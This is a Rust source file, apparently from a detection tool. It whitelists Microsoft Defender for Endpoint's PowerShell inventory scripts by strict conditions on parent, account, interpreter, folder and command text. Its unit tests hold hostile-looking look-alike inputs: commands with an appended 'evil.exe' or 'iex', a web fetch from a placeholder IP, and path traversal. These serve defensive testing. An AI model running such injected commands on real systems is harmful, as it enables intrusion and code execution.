//! Known harmless sources of alerts, each recognised only by all of its conditions together.
//!
//! A fingerprint may only lower a score, is void beside strong malicious evidence, and has a counter-test:
//! the look-alike that an adversary would make must not match.

/// What is known of a process when a fingerprint is tried.
#[derive(Debug, Clone, Copy, Default)]
pub struct ProcessRun<'a> {
    /// The program.
    pub image: &'a str,
    /// Its command line, whole.
    pub command: &'a str,
    /// The account that ran it, as the sensor wrote it.
    pub user: &'a str,
    /// The program that started it.
    pub parent: &'a str,
}

/// Where Defender for Endpoint keeps the inventory scripts it runs.
const FOLDER: &str = "c:\\programdata\\microsoft\\windows defender advanced threat protection\\datacollection\\";

/// Defender's sensor, which starts them.
const SENSOR: &str = "c:\\program files\\windows defender advanced threat protection\\senseir.exe";

/// The interpreter they are run with.
const INTERPRETER: &str = "c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe";

/// How the command begins and ends, folded; everything between is statements of [`STATEMENTS`].
const BEGINNING: &str = "powershell.exe -executionpolicy allsigned -noprofile -noninteractive -command \"& {";
const END: &str = "}\"";

/// The statements the sensor writes, folded, with `'#'` for each quoted text.
const STATEMENTS: [&str; 6] = [
    "$outputencoding = [console]::outputencoding =[system.text.encoding]::utf8",
    "$scriptfilestream = [system.io.file]::open('#', [system.io.filemode]::open, [system.io.fileaccess]::read, [system.io.fileshare]::read)",
    "$calculatedhash = microsoft.powershell.utility\\get-filehash '#' -algorithm sha256",
    "if (!($calculatedhash.hash -eq '#')) { exit 323",
    "}",
    ". '#'",
];

/// The script, if the process is Defender for Endpoint running an inventory script of its own folder: its
/// sensor, as SYSTEM, with Windows' own interpreter, by exactly its command.
///
/// Not covered: the same names elsewhere, another account, another parent, and anything added to the command.
#[must_use]
pub fn defender_data_collection(run: ProcessRun<'_>) -> Option<String> {
    let is = |text: &str, wanted: &str| text.eq_ignore_ascii_case(wanted);
    let started_by_sensor =
        is(run.parent, SENSOR) && is(run.image, INTERPRETER) && is(run.user, "NT AUTHORITY\\SYSTEM");
    let command = run.command.split_whitespace().collect::<Vec<_>>().join(" ");
    let folded = command.to_ascii_lowercase();
    let body = folded.strip_prefix(BEGINNING)?.strip_suffix(END)?;
    let texts: Vec<&str> = body.split('\'').skip(1).step_by(2).collect();
    let is_hash = |text: &str| text.len() == 64 && text.bytes().all(|byte| byte.is_ascii_hexdigit());
    let script = *texts.iter().find(|text| !is_hash(text))?;
    let only_this = texts.iter().all(|text| is_hash(text) || *text == script);
    let plain: String = body.split('\'').enumerate().map(|(at, part)| if at % 2 == 1 { "'#'" } else { part }).collect();
    let known =
        plain.split(';').map(str::trim).filter(|s| !s.is_empty()).all(|statement| STATEMENTS.contains(&statement));
    (started_by_sensor && only_this && known && is_in_folder(script)).then(|| {
        // As it was written, not folded: it is quoted.
        let at = folded.find(script).unwrap_or_default();
        command[at..at + script.len()].to_owned()
    })
}

/// One folder below Defender's, and a script in it.
fn is_in_folder(script: &str) -> bool {
    let Some(rest) = script.strip_prefix(FOLDER) else { return false };
    let plain = rest.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_' | '\\'));
    match rest.split('\\').collect::<Vec<_>>().as_slice() {
        [folder, file] => plain && !folder.is_empty() && !rest.contains("..") && file.ends_with(".ps1"),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const SCRIPT: &str =
        "C:\\ProgramData\\Microsoft\\Windows Defender Advanced Threat Protection\\DataCollection\\1.2.3-abc\\0a1b.ps1";

    fn command(script: &str) -> String {
        format!(
            "powershell.exe -ExecutionPolicy AllSigned -NoProfile -NonInteractive -Command \"& {{$OutputEncoding = [Console]::OutputEncoding =[System.Text.Encoding]::UTF8;$scriptFileStream = [System.IO.File]::Open('{script}', [System.IO.FileMode]::Open, [System.IO.FileAccess]::Read, [System.IO.FileShare]::Read); . '{script}'}}\""
        )
    }

    fn run(command: &str) -> ProcessRun<'_> {
        ProcessRun {
            image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            command,
            user: "NT AUTHORITY\\SYSTEM",
            parent: "C:\\Program Files\\Windows Defender Advanced Threat Protection\\SenseIR.exe",
        }
    }

    #[test]
    fn all_conditions_together_fit() {
        assert_eq!(defender_data_collection(run(&command(SCRIPT))).as_deref(), Some(SCRIPT));
    }

    #[test]
    fn another_account_parent_or_program_does_not_fit() {
        let whole = command(SCRIPT);
        let sound = run(&whole);
        for other in [
            ProcessRun { user: "CORP\\a.user", ..sound },
            ProcessRun { user: "", ..sound },
            ProcessRun { parent: "C:\\Users\\Public\\SenseIR.exe", ..sound },
            ProcessRun {
                parent: "E:\\Program Files\\Windows Defender Advanced Threat Protection\\SenseIR.exe",
                ..sound
            },
            ProcessRun { image: "C:\\ProgramData\\powershell.exe", ..sound },
        ] {
            assert_eq!(defender_data_collection(other), None, "{other:?}");
        }
    }

    #[test]
    fn a_command_with_anything_else_in_it_does_not_fit() {
        let whole = command(SCRIPT);
        for changed in [
            whole.replace("}\"", "; & 'C:\\Users\\Public\\evil.exe'}\""),
            whole.replace("}\"", ";iex $x}\""),
            whole.replace("}\"", "}\"; evil.exe"),
            whole.replace(". '", "$x = '"),
            whole.replace("& {", "& {iwr http://203.0.113.9;"),
            whole.replace(&format!("'{SCRIPT}', ["), &format!("'{SCRIPT}.x', [")),
        ] {
            assert_ne!(changed, whole);
            assert_eq!(defender_data_collection(run(&changed)), None, "{changed}");
        }
    }

    #[test]
    fn a_script_elsewhere_does_not_fit() {
        let folder = "\\Microsoft\\Windows Defender Advanced Threat Protection\\DataCollection";
        for file in [
            format!("C:\\Users\\Public{folder}\\1\\a.ps1"),
            format!("D:\\ProgramData{folder}\\1\\a.ps1"),
            format!("C:\\ProgramData{folder}\\..\\..\\x\\a.ps1"),
            format!("C:\\ProgramData{folder}\\a.ps1"),
            format!("C:\\ProgramData{folder}\\1\\2\\a.ps1"),
            format!("C:\\ProgramData{folder}\\1\\a.exe"),
        ] {
            assert_eq!(defender_data_collection(run(&command(&file))), None, "{file}");
        }
    }
}
